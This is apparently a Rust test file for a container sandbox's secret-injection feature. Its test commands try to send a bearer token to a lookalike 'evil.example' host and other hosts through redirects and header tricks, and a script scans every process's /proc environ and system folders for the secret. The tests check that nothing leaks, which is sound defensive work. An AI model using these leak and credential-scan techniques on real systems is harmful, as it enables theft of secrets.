//! Secrets of sandboxes: a value reaches the hosts of its domain and is never inside.
//!
//! Each test has an Internet of its own around its server; `tests/src/internet` draws it. Its hosts tell back the credentials
//! that they get, and note them.

#![forbid(unsafe_code)]

use std::net::IpAddr;
use std::path::Path;

use lazaret_tests::internet::{ALLOWED, ALLOWED_V6, Internet, OTHER, OTHER_V6, Visit};
use lazaret_tests::{KEY, Native, Server};
use serde_json::{Value, json};
use tempfile::TempDir;

const VALUE: &str = "hunter2-and-more";

/// An Internet, and a server in it that trusts its authority.
struct Setting {
    internet: Internet,
    server: Server,
    native: Native,
    _folder: TempDir,
}

impl Setting {
    fn new() -> Self {
        let internet = Internet::enter().expect("make an Internet, as root");
        let folder = tempfile::tempdir().expect("a folder");
        let certificate = folder.path().join("authority.pem");
        std::fs::write(&certificate, internet.certificate()).expect("write the certificate");
        let trusted = format!("trusted_certificates = [\"{}\"]\n", certificate.display());
        let settings = format!("{}{trusted}", internet.settings());
        let server = Server::start_in(&std::env::temp_dir(), &settings).expect("start a server");
        let native = server.native();
        Self { internet, server, native, _folder: folder }
    }

    /// A container that may reach these domains, with a secret `API_KEY` for `allowed.example`.
    fn container(&self) -> String {
        let policy = json!({
            "type": "allowlist",
            "allowed_domains": ["allowed.example", "*.allowed.example", "other.example"],
            "domain_secrets": [{ "domain": "allowed.example", "name": "API_KEY", "value": VALUE }],
        });
        let request = json!({ "name": "with a secret", "network_policy": policy });
        let answer = self.native.client().post("/v1/containers", &request).expect("create");
        assert_eq!(answer.status, 200, "{answer}");
        let container = answer.json();
        assert!(container["network_policy"].get("domain_secrets").is_none(), "{container}");
        container["id"].as_str().expect("an id").to_owned()
    }

    /// Exit code and output of a shell command; errors are part of the output.
    fn run(&self, id: &str, command: &str) -> (i64, String) {
        let command = format!("exec 2>&1\n{command}");
        let request = json!({ "command": ["sh", "-c", command], "timeout_ms": 60_000 });
        let result = self.native.exec_with(id, &request).expect("exec");
        let code = result["exit_code"].as_i64().unwrap_or_else(|| panic!("ended by a signal: {result}"));
        (code, result["stdout"].as_str().expect("output as text").to_owned())
    }

    fn visits(&self, to: &[IpAddr]) -> Vec<Visit> {
        to.iter().flat_map(|address| self.internet.visits(*address)).collect()
    }

    /// Requests that arrived with the value, anywhere.
    fn disclosed(&self) -> Vec<Visit> {
        let everywhere: [IpAddr; 4] = [ALLOWED.into(), ALLOWED_V6.into(), OTHER.into(), OTHER_V6.into()];
        self.visits(&everywhere).into_iter().filter(|visit| visit.said.contains(VALUE)).collect()
    }
}

/// Looks for the value in every file that may be written and in every environment, without having it in an argument.
const SEARCH: &str = "
import os
value = ('hunter2' + '-and-' + 'more').encode()
found = []
places = [os.path.join('/proc', p, 'environ') for p in os.listdir('/proc') if p.isdigit()]
for top in ('/etc', '/tmp', '/root', '/run', '/var', '/mnt', '/home', '/dev/shm'):
    for folder, _, names in os.walk(top):
        places += [os.path.join(folder, name) for name in names]
for place in places:
    try:
        with open(place, 'rb') as file:
            if value in file.read(16 << 20):
                found.append(place)
    except OSError:
        pass
print(found)
";

#[test]
fn a_secret_reaches_its_domain_from_common_programs_and_is_never_inside() {
    let setting = Setting::new();
    let id = setting.container();
    let (code, placeholder) = setting.run(&id, "printf %s \"$API_KEY\"");
    assert!(code == 0 && placeholder.starts_with("LAZARET_SECRET_API_KEY_"), "{placeholder}");

    let headers = "headers={'Authorization': 'Bearer ' + os.environ['API_KEY']}";
    let urllib = format!(
        "import os, urllib.request as u; \
         print(u.urlopen(u.Request('https://allowed.example/b', {headers}), timeout=20).read().decode())"
    );
    let requests = format!(
        "import os, requests; print(requests.get('https://allowed.example/c', timeout=20, {headers}).text)"
    );
    let programs = [
        "curl -sS -m 20 -H \"Authorization: Bearer $API_KEY\" https://allowed.example/a".to_owned(),
        format!("python3 -c \"{urllib}\""),
        format!("python3 -c \"{requests}\""),
        "node -e 'require(\"https\").get(\"https://allowed.example/d\", \
         {headers: {Authorization: \"Bearer \" + process.env.API_KEY}}, got => got.pipe(process.stdout))'"
            .to_owned(),
    ];
    for (count, command) in programs.iter().enumerate() {
        let (code, output) = setting.run(&id, command);
        assert!(code == 0 && output.contains("Bearer ****************"), "{command}: {code}\n{output}");
        let disclosed = setting.disclosed();
        assert_eq!(disclosed.len(), count + 1, "{command}\n{disclosed:?}\n{}", setting.server.log_tail());
        let last = disclosed.iter().find(|visit| visit.said.contains(["/a", "/b", "/c", "/d"][count]));
        assert!(
            last.is_some_and(|visit| visit.said.ends_with(&format!("with Bearer {VALUE}"))),
            "{disclosed:?}"
        );
    }

    let (code, found) = setting.run(&id, &format!("python3 - <<'END'{SEARCH}END"));
    assert_eq!((code, found.as_str()), (0, "[]\n"));
    let told = ["/v1/containers", "/lazaret/v1/sandboxes", "/lazaret/v1/events?limit=1000"]
        .map(|path| setting.native.client().get(path).expect("list").to_string())
        .join("\n");
    assert!(told.contains("API_KEY") && !told.contains(VALUE), "{told}");
    assert!(!setting.server.log().contains(VALUE), "in the log");
    assert_unwritten(setting.server.data_dir());
}

#[test]
fn the_command_line_takes_a_secret_from_its_environment_and_the_native_api_repeats_none() {
    let setting = Setting::new();
    let fetch = "curl -sS -m 20 -H \"Authorization: Bearer $API_KEY\" https://allowed.example/a";
    let output = setting
        .server
        .command()
        .env("API_KEY", VALUE)
        .args(["run", "--rm", "--allow", "allowed.example", "--secret", "API_KEY@allowed.example"])
        .args(["--", "sh", "-c", fetch])
        .output()
        .expect("start the client");
    let said = String::from_utf8_lossy(&output.stdout);
    assert!(output.status.success() && said.contains("Bearer ****************"), "{output:?}");
    let disclosed = setting.disclosed();
    assert!(
        disclosed.len() == 1 && disclosed[0].said.ends_with(&format!("with Bearer {VALUE}")),
        "{disclosed:?}"
    );

    let network = json!({ "type": "allowlist", "domains": ["allowed.example"] });
    for (secret, field) in [
        (json!({ "domain": "other.example", "name": "A", "value": VALUE }), "secrets"),
        (json!({ "domain": "..", "name": "A", "value": VALUE }), "secrets[0].domain"),
        (json!({ "domain": "allowed.example", "name": "A", "value": [VALUE] }), "secrets"),
        (json!({ "domain": "allowed.example", "name": "A b", "value": VALUE }), "secrets"),
    ] {
        let request = json!({ "network": network, "secrets": [secret] });
        let answer = setting.native.client().post("/lazaret/v1/sandboxes", &request).expect("an answer");
        assert!(answer.status == 400 && !answer.to_string().contains(VALUE), "{answer}");
        assert!(answer.to_string().contains(field), "{field}: {answer}");
    }
    assert!(!setting.server.log().contains(VALUE), "in the log");
}

/// No file of the data directory has the value in it; the disks of sandboxes were searched from within.
fn assert_unwritten(data: &Path) {
    let mut seen = Vec::new();
    for entry in std::fs::read_dir(data).expect("list the data directory") {
        let path = entry.expect("an entry").path();
        if path.is_file() {
            let content = std::fs::read(&path).expect("read");
            let has = content.windows(VALUE.len()).any(|window| window == VALUE.as_bytes());
            assert!(!has, "{} has the value", path.display());
            seen.push(path.file_name().expect("a name").to_string_lossy().into_owned());
        }
    }
    assert!(
        ["lazaret.db", "sealing-key"].iter().all(|name| seen.iter().any(|found| found == name)),
        "{seen:?}"
    );
}

#[test]
fn another_host_gets_the_placeholder_whatever_is_tried() {
    let setting = Setting::new();
    let id = setting.container();
    let header = "-H \"Authorization: Bearer $API_KEY\"";
    let curl = format!("curl -sS -k -m 20 {header}");
    for (arguments, want) in [
        // Other hosts that are allowed, by name and by redirect.
        ("https://other.example/", "Bearer LAZARET_SECRET_API_KEY_"),
        ("https://www.allowed.example/", "Bearer LAZARET_SECRET_API_KEY_"),
        ("--location-trusted https://allowed.example/to/other.example", "Bearer LAZARET_SECRET_API_KEY_"),
        // The right host in the clear, where everybody on the way could read it.
        ("http://allowed.example/", "Bearer LAZARET_SECRET_API_KEY_"),
        // One name for the handshake and another for the request.
        ("-H 'Host: other.example' https://allowed.example/", "host contradicts the request"),
        ("-H 'Host: allowed.example' https://other.example/", "Bearer LAZARET_SECRET_API_KEY_"),
        ("--request-target https://other.example/ https://allowed.example/", "host contradicts the request"),
        ("--connect-to other.example:443:allowed.example:443 https://other.example/", "at 93.184.0.20"),
        // Names that look alike.
        ("https://notallowed.example/", "Could not resolve host"),
        (
            "--resolve allowed.example.evil.example:443:93.184.0.20 https://allowed.example.evil.example/",
            "alert",
        ),
    ] {
        let (_, output) = setting.run(&id, &format!("{curl} {arguments}"));
        assert!(
            output.contains(want) || (want == "at 93.184.0.20" && output.contains("2606:4700::20")),
            "{arguments}: {output}"
        );
        assert!(!output.contains(VALUE), "{arguments}: {output}");
    }
    // Sent to the wrong host by address, it goes to the right one.
    let (code, output) = setting
        .run(&id, &format!("{curl} --resolve allowed.example:443:93.184.0.20 https://allowed.example/last"));
    assert!(code == 0 && output.contains("Bearer ****************"), "{output}");
    // Those two are all: this one, and the request that was answered with the redirect.
    let disclosed = setting.disclosed();
    let at = |visit: &Visit| [IpAddr::from(ALLOWED), ALLOWED_V6.into()].contains(&visit.to.ip());
    assert!(disclosed.iter().all(|visit| at(visit) && visit.to.port() == 443), "{disclosed:?}");
    let mut said: Vec<&str> = disclosed.iter().map(|visit| visit.said.as_str()).collect();
    said.sort_unstable();
    let want = ["/last", "/to/other.example"]
        .map(|path| format!("GET {path} for allowed.example with Bearer {VALUE}"));
    assert_eq!(said, want);

    // What is told of it to a neighbour is a word like any other there.
    let (_, placeholder) = setting.run(&id, "printf %s \"$API_KEY\"");
    let network = json!({ "type": "allowlist", "domains": ["allowed.example"] });
    let neighbour = setting.native.create(&json!({ "network": network })).expect("create");
    let (code, output) = setting.run(
        &neighbour,
        &format!("curl -sS -k -m 20 -H 'Authorization: Bearer {placeholder}' https://allowed.example/"),
    );
    assert!(code == 0 && output.contains(&placeholder), "{output}");
    assert_eq!(setting.disclosed().len(), want.len());
}

#[test]
fn secrets_outlive_the_server_and_pass_to_forks_and_a_live_policy_counts() {
    let mut setting = Setting::new();
    let id = setting.container();
    let mut count = 0;
    let mut arrives = |setting: &Setting, id: &str| {
        let command = "curl -sS -m 20 -H \"Authorization: Bearer $API_KEY\" https://allowed.example/";
        let (code, output) = setting.run(id, command);
        assert_eq!(code, 0, "{output}\n{}", setting.server.log_tail());
        count += 1;
        assert_eq!(setting.disclosed().len(), count, "{output}");
    };
    arrives(&setting, &id);
    setting.server.kill();
    setting.server.start_again();
    arrives(&setting, &id);
    setting.native.apply(&id, "stop").expect("stop");
    let fork = setting.native.client().post(&format!("/lazaret/v1/sandboxes/{id}/fork"), &json!({}));
    let fork = fork.expect("fork");
    assert_eq!(fork.status, 201, "{fork}");
    let fork: Value = fork.json();
    arrives(&setting, fork["id"].as_str().expect("an id"));
    setting.native.apply(&id, "start").expect("start");
    arrives(&setting, &id);

    let policy = json!({ "type": "allowlist", "domains": ["other.example"] });
    setting.native.set_network(&id, &policy).expect("change");
    let (code, output) =
        setting.run(&id, "curl -sS -k -m 20 -H \"Authorization: Bearer $API_KEY\" https://allowed.example/");
    assert_ne!(code, 0, "{output}");
    assert_eq!(setting.disclosed().len(), 4);
    assert!(!setting.server.log().contains(VALUE) && !setting.server.log().contains(KEY));
}
